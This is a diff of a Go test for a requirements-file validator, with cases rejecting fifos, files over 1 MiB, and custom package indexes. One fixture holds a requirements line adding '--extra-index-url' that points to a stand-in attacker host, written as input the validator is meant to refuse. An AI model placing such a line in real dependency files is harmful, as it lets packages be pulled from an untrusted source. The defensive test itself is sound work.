@@ -37,7 +37,7 @@ func TestRefusedRequirementsMakeTheModelFaulty(t *testing.T) {
 		"a fifo":                     {func(t *testing.T, p string) { must(t, mkfifo(p)) }, "is not a regular file"},
 		"larger than 1 MiB": {func(t *testing.T, p string) {
 			must(t, os.WriteFile(p, []byte(strings.Repeat("six\n", 300_000)), 0o644))
-		}, "is larger than 1048576 bytes"},
+		}, "more than 1048576"},
 		"an index of its own": {func(t *testing.T, p string) {
 			must(t, os.WriteFile(p, []byte("pandas\n--extra-index-url https://evil.example/simple\n"), 0o644))
 		}, "requirements line 2"},
